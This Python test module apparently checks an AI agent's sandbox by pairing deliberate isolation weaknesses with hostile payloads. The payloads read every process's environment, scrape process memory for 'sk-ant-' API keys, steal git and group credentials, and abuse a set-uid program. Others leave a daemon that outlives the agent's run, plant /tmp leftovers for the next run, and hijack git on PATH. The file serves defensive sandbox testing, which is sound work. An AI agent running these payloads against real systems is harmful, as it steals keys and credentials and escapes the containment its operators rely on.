"""What the agent may reach: keys, tokens and credentials on the machine, other people's files, the life after its run."""

import time

from bot.sandbox.stage import MODEL_KEY
from tests.hostile.arena import CREDENTIAL, RUNTIME_TOKEN, Arena, Attack, Weakness, got, mark_left

SAME_USER = Weakness(
    "bot/agent/isolation.py",
    "    return OtherUser(root, become_root=_way_to_root(), log=log)",
    "    return SameUser(root)",
)
"""The wall between the agent and the runner's user."""
ALL_VARIABLES = Weakness(
    "bot/agent/process.py",
    'if name in PASSED_ON or name.startswith("LC_")}',
    "}",
)
NEW_PRIVILEGES = Weakness(
    "bot/agent/isolation.py",
    'drop = ("--clear-groups", "--no-new-privs", "--inh-caps=-all", "--bounding-set=-all")',
    'drop = ("--clear-groups",)',
)
KEEP_GROUPS = Weakness("bot/agent/isolation.py", 'drop = ("--clear-groups", ', 'drop = ("--keep-groups", ')
OPEN_DISK = Weakness(
    "bot/agent/isolation.py",
    "            self._close(root, log)\n            self._prove()\n",
    "            self._prove()\n",
)
ALIVE = Weakness(
    "bot/agent/isolation.py",
    "        blind, end = bool(self._become_root), time.monotonic() + 10\n",
    "        return\n        blind, end = bool(self._become_root), time.monotonic() + 10\n",
)


def _outlives_its_run(arena: Arena) -> bool:
    arena.settle(arena.ask())
    time.sleep(0.5)  # what was under way arrives
    before, end = len(arena.loot.named("alive")), time.monotonic() + 5
    while time.monotonic() < end:
        if len(arena.loot.named("alive")) > before:
            return True
        time.sleep(0.05)
    return False


def _two_runs(arena: Arena) -> bool:
    issue = arena.ask()
    arena.settle(issue)
    arena.stage.comment(issue, "/ai run")
    arena.settle(issue, verdicts=2)
    return bool(arena.loot.named("leftover"))


ATTACKS = (
    Attack(
        "S01 environ",
        "reads the environment of every process",
        got(MODEL_KEY),
        (SAME_USER,),
        """
for path in glob.glob("/proc/[0-9]*/environ"):
    send("environ", look(path))
""",
    ),
    Attack(
        "S01 memory",
        "reads the memory of every process",
        got(MODEL_KEY),
        (SAME_USER,),
        """
for maps in glob.glob("/proc/[0-9]*/maps"):
    pid = maps.split("/")[2]
    if pid == str(os.getpid()) or b"bot" not in look(f"/proc/{pid}/cmdline"):
        continue
    try:
        with open(maps) as lines, open(f"/proc/{pid}/mem", "rb", 0) as memory:
            for line in lines:
                start, end = (int(number, 16) for number in line.split()[0].split("-"))
                if "rw" in line and end - start < 1 << 28:
                    try:
                        memory.seek(start)
                        for found in re.findall(b"sk-ant-[A-Za-z0-9-]{20,100}", memory.read(end - start)):
                            send("memory", found)
                    except OSError:
                        pass
    except OSError:
        pass
""",
    ),
    Attack(
        "S01 variables",
        "prints its own environment",
        got(RUNTIME_TOKEN),
        (ALL_VARIABLES,),
        'send("env", json.dumps(dict(os.environ)))',
    ),
    Attack(
        "S02 set-uid",
        "runs a set-uid program of root's on a file of root's",
        got(CREDENTIAL),
        (NEW_PRIVILEGES,),
        'send("file", subprocess.run([f"{ROOT}/reader", f"{ROOT}/credentials"], capture_output=True).stdout)',
    ),
    Attack(
        "S02 groups",
        "reads what the runner's groups may read",
        got(CREDENTIAL),
        (KEEP_GROUPS,),
        'send("file", look(f"{ROOT}/group-credentials"))',
    ),
    Attack(
        "S03 home",
        "reads credentials in the runner's home",
        got(CREDENTIAL),
        (SAME_USER,),
        'send("file", look(f"{ROOT}/runner/.git-credentials"))',
    ),
    Attack(
        "R30 daemon",
        "leaves a process behind that cuts all ties",
        _outlives_its_run,
        (ALIVE,),
        """
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        null = os.open(os.devnull, os.O_RDWR)
        for stream in (0, 1, 2):
            os.dup2(null, stream)
        while send("alive", "1"):  # until the attacker goes home
            time.sleep(0.1)
    os._exit(0)
""",
    ),
    Attack(
        "R66 leftovers",
        "leaves a file in /tmp for the next run",
        _two_runs,
        (
            Weakness(
                "bot/agent/isolation.py",
                "            run_short((*self._words(), *sweep), seconds=120)\n",
                "            del sweep\n",
            ),
        ),
        """
where = f"/tmp/ai-ready-leftover-{ROOT.replace('/', '-')}"
if os.path.exists(where):
    send("leftover", "1")
pathlib.Path(where).write_text("for the next one")
""",
    ),
    Attack(
        "S02 programs",
        "puts a git of its own where everybody may write and PATH begins",
        mark_left("git"),
        (OPEN_DISK,),
        r"""
program = pathlib.Path(ROOT, "opt", "git")
program.write_text(f'#!/bin/sh\nid -u >> {PWNED}/git\nexec /usr/bin/git "$@"\n')
program.chmod(0o755)
""",
    ),
)
